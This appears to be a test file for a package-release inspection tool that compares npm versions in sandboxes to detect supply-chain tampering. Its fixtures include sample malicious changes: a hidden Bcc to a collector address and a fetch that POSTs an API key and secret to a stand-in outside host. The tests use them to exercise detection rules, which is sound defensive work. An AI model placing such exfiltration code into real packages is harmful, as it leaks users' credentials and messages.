import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { openEvidenceStore } from '../../src/artifacts/evidence-store.ts';
import { InspectionError } from '../../src/inspections/errors.ts';
import type { ArtifactSide } from '../../src/inspections/artifact-side.ts';
import { inspectArtifacts } from '../../src/inspections/inspect-artifacts.ts';
import { inspectRelease } from '../../src/inspections/inspect-release.ts';
import { defaultSandboxLimits } from '../../src/inspections/sandbox.ts';
import { openSandboxes, type Sandboxes } from '../../src/inspections/sandboxes.ts';
import { defaultPolicy } from '../../src/policies/policy.ts';
import { openNpmRegistry } from '../../src/registries/npm/npm-registry.ts';
import { observedRelease } from '../../src/releases/observed-release.ts';
import type { ObservedRelease } from '../../src/releases/release-event.ts';
import { formatPurl } from '../../src/watchlists/purl.ts';
import { buildPackageTarball } from '../support/archive-builder.ts';
import { answerStatus, startFakeNpmRegistry } from '../support/fake-npm-registry.ts';

const entry = new URL('../../workers/sandbox/profile-artifact.ts', import.meta.url);
const policy = defaultPolicy;

let sandboxes: Sandboxes;
let folder: string;

beforeAll(async () => {
  sandboxes = openSandboxes({ entry, concurrency: 2 });
  folder = await mkdtemp(join(tmpdir(), 'watchkeeper-inspect-'));
});

afterAll(async () => {
  sandboxes.close();
  await rm(folder, { recursive: true, force: true });
});

function side(version: string, code: string, manifest: object = {}): ArtifactSide {
  const tarball = buildPackageTarball({
    'package.json': JSON.stringify({ name: 'acme', version, main: 'index.js', ...manifest }),
    'index.js': code,
  });
  return {
    party: { id: `pkg:npm/acme@${version}`, name: 'acme', version },
    input: { kind: 'archive', bytes: tarball, digest: `sha512-${version}` },
  };
}

const mail = (fields: string) =>
  `const postmark = require('postmark');
const client = new postmark.ServerClient(process.env.TOKEN);
exports.send = (to) => client.sendEmail({ From: 'a@b.example', To: to, TextBody: 'x'${fields} });`;

const fetchTo = (host: string) =>
  `exports.run = (secret) => fetch('https://${host}/v1', { method: 'POST', body: JSON.stringify({ apiKey: process.env.API_KEY, secret }) });`;

const baseline = side('1.0.15', mail(''));
const release = side('1.0.16', mail(", Bcc: 'collector@mailbox.invalid'"));

describe('what was judged stays judged', () => {
  test('when the drawing of its changes takes too long', async () => {
    const slow: Sandboxes = {
      close: () => undefined,
      use: (work) =>
        sandboxes.use((sandbox) =>
          work({
            ...sandbox,
            hunks: async () => {
              throw new InspectionError('sandbox-timed-out', 'too long', {
                subject: release.party.id,
                retry: 'never',
              });
            },
          }),
        ),
    };
    const job = { release, baseline, firstSight: false };
    const inspection = await inspectArtifacts({ sandboxes: slow, policy }, job);
    expect(inspection.outcome).toBe('findings');
    expect(inspection.findings[0]).toMatchObject({ rule: 'recipient-added', severity: 'critical' });
  });

  test('whatever version the archive gives itself', async () => {
    const before = side('1.0.15', fetchTo('api.acme.example'));
    const honest = side(
      '1.0.16',
      `${fetchTo('api.acme.example')}\n${fetchTo('in.stranger.invalid')}`,
    );
    const lying: ArtifactSide = {
      ...side('2.0.0', `${fetchTo('api.acme.example')}\n${fetchTo('in.stranger.invalid')}`),
      party: honest.party,
    };
    const rulesOf = async (one: ArtifactSide) => {
      const job = { release: one, baseline: before, firstSight: false };
      const { findings } = await inspectArtifacts({ sandboxes, policy }, job);
      return findings
        .filter(({ rule }) => rule === 'destination-added')
        .map(({ rule, severity, fingerprint }) => [rule, severity, fingerprint]);
    };
    const told = await rulesOf(honest);
    expect(told.length).toBeGreaterThan(0);
    expect(await rulesOf(lying)).toEqual(told);
  });

  test('also when nothing of it could be read: that is said loud enough to be heard', async () => {
    const hurried = openSandboxes({
      entry: new URL('../fixtures/sandbox/endless-loop.ts', import.meta.url),
      concurrency: 1,
      limits: { ...defaultSandboxLimits, timeoutMs: 300 },
    });
    const inspect = async (one: ArtifactSide) =>
      inspectArtifacts({ sandboxes: hurried, policy }, { release: one, firstSight: false });
    const first = await inspect(release);
    expect(first).toMatchObject({
      outcome: 'incomplete',
      unread: [{ path: '', reason: 'sandbox-timed-out' }],
      findings: [{ rule: 'inspection-incomplete', severity: 'high' }],
    });
    // A decision about this one says nothing about the next.
    const second = await inspect(side('1.0.17', mail('')));
    expect(second.findings[0]?.fingerprint).not.toBe(first.findings[0]?.fingerprint);
    hurried.close();
  });
});

test('a service that is being stopped starts nothing and says nothing of the package', async () => {
  const closing = openSandboxes({
    entry: new URL('../fixtures/sandbox/endless-loop.ts', import.meta.url),
    concurrency: 1,
    ahead: true,
  });
  const job = { release, baseline, firstSight: false };
  const inspecting = inspectArtifacts({ sandboxes: closing, policy }, job);
  setTimeout(() => closing.close(), 500);
  await expect(inspecting).rejects.toMatchObject({ code: 'sandbox-closed', retry: 'later' });
  await expect(closing.use(async () => undefined)).rejects.toMatchObject({
    code: 'sandbox-closed',
  });
});

describe('a predecessor that cannot be had', () => {
  async function publishTwo() {
    const registry = await startFakeNpmRegistry();
    registry.publish('acme', '1.0.15', { 'index.js': mail('') });
    registry.publish('acme', '1.0.16', {
      'index.js': mail(", Bcc: 'collector@mailbox.invalid'"),
    });
    const npm = { registry: registry.url };
    const answer = await openNpmRegistry({ npm, version: 'test' }).readPackument('acme');
    if (answer.status !== 'modified') throw new Error('not served');
    const [old, next] = answer.packument.versions.map(observedRelease) as [
      ObservedRelease,
      ObservedRelease,
    ];
    const evidence = openEvidenceStore(join(folder, crypto.randomUUID()));
    const ports = { sandboxes, policy, download: { npm }, evidence };
    const job = {
      purl: formatPurl({ ecosystem: 'npm', name: 'acme', version: '1.0.16' }),
      release: next,
      predecessor: old,
      firstSight: false,
    };
    return { registry, ports, job, evidence, next };
  }

  test('does not keep the release from being kept and judged on its own', async () => {
    const { registry, ports, job, evidence, next } = await publishTwo();
    registry.misbehave('acme/-/acme-1.0.15.tgz', answerStatus(404), 10);
    const inspection = await inspectRelease(ports, job);
    expect(inspection.outcome).toBe('incomplete');
    expect(inspection.baseline).toBeUndefined();
    expect(inspection.unread).toMatchObject([{ reason: 'baseline-unavailable' }]);
    expect(inspection.findings.map(({ rule }) => rule)).toContain('recipient-added');
    expect(await evidence.has(next.artifact.integrity as never)).toBe(true);
    await registry.stop();
  });

  test('is waited for while it may come, until the last try', async () => {
    const { registry, ports, job, evidence, next } = await publishTwo();
    registry.misbehave('acme/-/acme-1.0.15.tgz', answerStatus(503), 50);
    await expect(inspectRelease(ports, job)).rejects.toMatchObject({ retry: 'later' });
    expect(await evidence.has(next.artifact.integrity as never)).toBe(true);
    const last = await inspectRelease(ports, job, { withoutBaseline: true });
    expect(last.unread).toMatchObject([{ reason: 'baseline-unavailable' }]);
    await registry.stop();
  });
});
